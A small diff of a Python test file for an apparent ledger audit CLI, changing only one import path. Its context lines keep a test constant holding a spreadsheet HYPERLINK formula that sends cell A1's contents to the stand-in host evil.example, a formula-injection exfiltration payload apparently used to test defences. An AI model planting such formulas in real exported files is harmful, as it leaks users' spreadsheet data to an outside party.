@@ -18,7 +18,7 @@ import pytest
 from click.testing import CliRunner
 
 from cli.main import cli
-from ledger.text import display_width
+from ledger.audit.text import display_width
 from tests.ledger.audit.audit_factory import build_store, ingredient, provenance
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
